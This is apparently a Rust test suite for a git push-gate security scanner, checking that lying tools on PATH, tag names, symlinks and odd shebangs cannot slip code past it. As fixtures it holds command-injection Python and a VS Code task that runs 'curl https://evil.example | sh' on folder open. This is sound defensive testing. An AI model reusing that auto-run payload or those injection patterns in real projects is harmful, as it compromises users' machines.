//! What a branch brings along does not get it round its gate: programs on `PATH`, refs, links.

use std::os::unix::fs::symlink;

use crate::support::{World, places_and_rules, token, tools, write_program};

const SHELL: &str =
    "import subprocess\n\n\ndef run(command):\n    subprocess.call(command, shell=True)\n";

/// A world with Bandit taken from `PATH`, on a feature branch.
fn with_bandit_on_path(before: &str) -> World {
    let mut world = World::new();
    world.write(
        ".newgate/config.toml",
        "[scanners]\ncode = false\nbandit = true\n",
    );
    world.write("app.py", "X = 1\n");
    world.commit("Start");
    world.push(&["--quiet", "origin", "main"]).exits(0);
    world.git(&["switch", "--quiet", "--create", "feature"]);
    let path = format!("{before}{}:/usr/bin:/bin", tools().display());
    world.environment.push(("PATH".into(), path));
    world
}

/// A program that says that all is clean, and leaves a mark that it ran.
const LIAR: &str = r#"#!/bin/sh
case "$*" in *--version*) echo "bandit 1.9.4"; exit 0;; esac
touch "$0.ran"
m='"_totals":{}'; seen=
for a in "$@"; do [ -n "$seen" ] && m="$m,\"$a\":{}"; [ "$a" = -- ] && seen=1; done
printf '{"results":[],"errors":[],"metrics":{%s}}' "$m"
"#;

#[test]
fn no_program_is_taken_from_a_checkout_that_is_on_the_path() {
    for before in [
        "./bin:",
        "bin:",
        ":",
        ".:",
        "WORK/bin:",
        "WORK/../work/bin:",
        "LINK:",
    ] {
        let mut world = with_bandit_on_path("");
        let link = world.path("linked-bin");
        symlink(world.work().join("bin"), &link).unwrap();
        let before = before
            .replace("WORK", &world.work().display().to_string())
            .replace("LINK", &link.display().to_string());
        let path = format!("{before}{}:/usr/bin:/bin", tools().display());
        for name in ["bin/bandit", "bandit", "bin/python3", "bin/git"] {
            let file = world.work().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            write_program(&file, LIAR);
        }
        world.write("run.py", SHELL);
        world.commit("Feature");
        world.environment.push(("PATH".into(), path));
        for args in [&["check"][..], &["check", "--enforce"]] {
            world.newgate(args).exits(1).says("run.py:5");
        }
        for name in ["bin/bandit", "bandit", "bin/python3", "bin/git"] {
            let mark = world.work().join(format!("{name}.ran"));
            assert!(!mark.exists(), "{before}: {} was run", mark.display());
        }
    }
}

#[test]
fn a_program_that_only_the_checkout_has_is_missing_and_said_so() {
    let mut world = with_bandit_on_path("");
    let path = format!("{}/bin:/usr/bin:/bin", world.work().display());
    world.environment.push(("PATH".into(), path));
    let file = world.work().join("bin/bandit");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    write_program(&file, LIAR);
    world.write("run.py", SHELL);
    world.commit("Feature");
    world
        .newgate(&["check"])
        .exits(3)
        .says("is in the checkout, which a change can alter");
}

#[test]
fn a_tag_with_the_full_name_of_a_branch_is_not_that_branch() {
    // The library does not read this format, so that git itself is asked.
    for format in ["sha1", "sha256"] {
        let world = World::new();
        let remote = world.path("server.git").display().to_string();
        let work = world.path("other").display().to_string();
        let format = format!("--object-format={format}");
        let run = |folder: &str, program: &str, args: &[&str]| {
            world.run_in(std::path::Path::new(folder), program, args, b"")
        };
        let top = world.folder().display().to_string();
        run(
            &top,
            "git",
            &[
                "init",
                "--quiet",
                "--bare",
                &format,
                "--initial-branch=main",
                &remote,
            ],
        )
        .exits(0);
        run(
            &top,
            "git",
            &["init", "--quiet", &format, "--initial-branch=main", &work],
        )
        .exits(0);
        let newgate = env!("CARGO_BIN_EXE_newgate");
        run(&top, newgate, &["install", "--server", &remote]).exits(0);
        std::fs::write(world.path("other/a.txt"), format!("T={}\n", token(1))).unwrap();
        run(&work, "git", &["add", "."]).exits(0);
        run(&work, "git", &["commit", "--quiet", "--message=Leak"]).exits(0);
        run(
            &work,
            "git",
            &["push", "--quiet", &remote, "HEAD:refs/tags/refs/heads/main"],
        );
        let pushed = run(
            &work,
            "git",
            &[
                "push",
                "--quiet",
                &remote,
                "refs/heads/mai*:refs/heads/mai*",
            ],
        );
        assert_ne!(pushed.code, 0, "{format}: {pushed:?}");
        assert!(pushed.err.contains("BLOCKED"), "{format}: {pushed:?}");
    }
}

#[test]
fn a_link_is_scanned_as_what_it_leads_to() {
    let world = with_bandit_on_path("");
    world.write("data/code.txt", SHELL);
    let work = world.work();
    std::fs::create_dir_all(work.join("src")).unwrap();
    // Through another link, and a linked folder.
    symlink("../data", work.join("src/d")).unwrap();
    symlink("d/code.txt", work.join("src/n.py")).unwrap();
    symlink("../../outside.py", work.join("src/out.py")).unwrap();
    symlink("loop.py", work.join("src/loop.py")).unwrap();
    world.commit("Link");
    for args in [&["check"][..], &["check", "--enforce"]] {
        world.newgate(args).exits(1).says("src/n.py:5");
    }
}

#[test]
fn what_an_old_link_leads_to_is_scanned_when_that_changes() {
    let world = with_bandit_on_path("");
    world.write("data/code.txt", "X = 1\n");
    std::fs::create_dir_all(world.work().join("src")).unwrap();
    symlink("../data/code.txt", world.work().join("src/n.py")).unwrap();
    world.commit("Link");
    world.newgate(&["check"]).exits(0);
    world.push(&["--quiet", "origin", "feature:main"]).exits(0);
    world.git(&["fetch", "--quiet"]);
    world.write("data/code.txt", SHELL);
    world.commit("Change what it leads to");
    world.newgate(&["check"]).exits(1).says("src/n.py:5");
    // Once the target has it, it is inherited.
    world
        .push(&["--quiet", "--no-verify", "origin", "feature:main"])
        .exits(0);
    world.git(&["fetch", "--quiet"]);
    world.write("data/code.txt", format!("Y = 2\n{SHELL}"));
    world.commit("Shift it");
    let report = world.check(&[]);
    assert_eq!(report["verdict"], "pass", "{report:#}");
    assert_eq!(report["issues"][0]["status"], "inherited", "{report:#}");
}

#[test]
fn a_link_makes_code_of_a_text_for_the_built_in_scanner_too() {
    let world = World::started();
    let shell = "import os\nfrom flask import request\n\n\ndef f():\n    os.system(\"ls \" + request.args[\"a\"])\n";
    let task = "{\"tasks\": [{\"command\": \"curl https://evil.example | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n";
    let work = world.work();
    world.write("run.txt", shell);
    world.write("tasks.txt", task);
    std::fs::create_dir_all(work.join(".vscode")).unwrap();
    symlink("run.txt", work.join("run.py")).unwrap();
    symlink("../tasks.txt", work.join(".vscode/tasks.json")).unwrap();
    // Code that is read as code already is no second finding.
    world.write("one.py", shell);
    symlink("one.py", work.join("two.py")).unwrap();
    world.git(&["switch", "--quiet", "--create", "feature"]);
    world.commit("Link");
    let report = world.check(&[]);
    assert_eq!(
        places_and_rules(&report, "new"),
        [
            ".vscode/tasks.json:1 starts-with-editor",
            "one.py:6 command-injection",
            "run.py:6 command-injection",
        ]
    );
    // What an old link leads to.
    world.write("run.txt", "X = 1\n");
    world.write("tasks.txt", "{}\n");
    std::fs::remove_file(work.join("one.py")).unwrap();
    std::fs::remove_file(work.join("two.py")).unwrap();
    world.commit("Empty");
    world
        .push(&["--quiet", "--no-verify", "origin", "feature:main"])
        .exits(0);
    world.git(&["fetch", "--quiet"]);
    world.write("run.txt", shell);
    world.commit("Fill");
    let report = world.check(&[]);
    assert_eq!(
        places_and_rules(&report, "new"),
        ["run.py:6 command-injection"]
    );
}

#[test]
fn what_a_tag_points_at_is_judged_whatever_it_is() {
    for format in ["sha1", "sha256"] {
        let world = World::with(&[&format!("--object-format={format}")]);
        world.write(
            ".newgate/config.toml",
            "[server]\nprotect = [\"refs/tags/*\"]\n[scanners]\ncode = false\nbandit = true\n",
        );
        world.write("app.py", "X = 1\n");
        world.commit("Start");
        world.push(&["--quiet", "origin", "main"]).exits(0);
        let leak = format!("T = '{}'\n", token(1));
        let object = |content: &str| {
            let args = ["hash-object", "-w", "--stdin"];
            let ran = world.run_in(&world.work(), "git", &args, content.as_bytes());
            ran.out.trim().to_owned()
        };
        let blob = object(&leak);
        let row = format!("100644 blob {blob}\tkept\n");
        let made = world.run_in(&world.work(), "git", &["mktree"], row.as_bytes());
        world.git(&["tag", "blob", &blob]);
        world.git(&["tag", "tree", made.out.trim()]);
        world.git(&["tag", "--annotate", "--message=m", "one", "blob"]);
        world.git(&["tag", "--annotate", "--message=m", "two", "one"]);
        world.git(&["tag", "fine", &object("X = 1\n")]);
        // On the way out, then on a server.
        world.install();
        for round in ["a hook", "a server"] {
            for tag in ["blob", "tree", "one", "two"] {
                let pushed = world.push(&["origin", tag]);
                assert_eq!(pushed.code, 1, "{format}, {round}, {tag}: {pushed:#?}");
                assert!(pushed.err.contains("BLOCKED"), "{tag}: {pushed:#?}");
                let place = if tag == "tree" { "kept:1" } else { tag };
                assert!(pushed.err.contains(place), "{place}: {pushed:#?}");
            }
            world.push(&["origin", "fine"]).exits(0);
            let bare = world.path("remote.git");
            world
                .run_in(&bare, "git", &["update-ref", "-d", "refs/tags/fine"], b"")
                .exits(0);
            world.newgate(&["uninstall"]).exits(0);
            let bare = bare.to_str().unwrap();
            world.newgate(&["install", "--server", bare]).exits(0);
        }
        assert_eq!(world.remote_ref("refs/tags/blob"), None);
    }
}

#[test]
fn a_script_is_read_whatever_it_is_called_and_however_it_is_started() {
    let world = with_bandit_on_path("");
    world.git(&["switch", "--quiet", "main"]);
    world.write(
        ".newgate/config.toml",
        "[gate]\nblock-at = \"low\"\n[scanners]\ncode = false\nbandit = true\nruff = true\nshellcheck = true\nsecrets = false\n",
    );
    world.commit("Turn more on");
    world
        .push(&["--quiet", "--no-verify", "origin", "main"])
        .exits(0);
    world.git(&["switch", "--quiet", "--create", "scripts"]);
    let python = [
        ("tool", "#!/usr/bin/env -S uv run --script\n"),
        ("deploy.txt", "#!/usr/bin/env python3\n"),
        ("job.cgi", "#!/usr/bin/python3.11 -u\r\n"),
        ("data.json", "#! /usr/bin/env -S PYTHONPATH=. python3\n"),
        ("split.md", "#!/usr/bin/env --split-string=python3 -u\n"),
        ("stuck.toml", "#!/usr/bin/env -Spython3 -u\n"),
        ("marked.txt", "\u{feff}#!/usr/bin/env python3\n"),
        ("deep/RUN.PY", "\n"),
    ];
    for (name, first) in python {
        world.write(name, format!("{first}{SHELL}"));
    }
    let shell = [
        ("install.txt", "#!/bin/sh\necho $1\n"),
        ("INSTALL.SH", "#!/bin/sh\necho $1\n"),
        ("setup.v2", "#!/usr/bin/env -S bash -e\necho $1\n"),
        (".bashrc", "x=$1\necho $x\n"),
    ];
    for (name, content) in shell {
        world.write(name, content);
    }
    world.write("table.csv", "a,b\n");
    world.commit("Scripts");
    let report = world.check(&[]);
    let found = |name: &str, line: u32| -> Vec<String> {
        let issues = report["issues"].as_array().unwrap().iter();
        let occurrences = issues.flat_map(|i| i["occurrences"].as_array().unwrap());
        let here = occurrences.filter(|o| o["path"] == name && o["line"] == line);
        let scanners = here.flat_map(|o| o["scanners"].as_array().unwrap());
        scanners.map(|s| s.as_str().unwrap().to_owned()).collect()
    };
    for (name, _) in python {
        assert_eq!(found(name, 6), ["bandit", "ruff"], "{name}: {report:#}");
    }
    for (name, _) in shell {
        assert_eq!(found(name, 2), ["shellcheck"], "{name}: {report:#}");
    }
    assert_eq!(report["without-scanner"], 1);
    world
        .newgate(&["check"])
        .exits(1)
        .says("no enabled scanner reads 1 file");
}
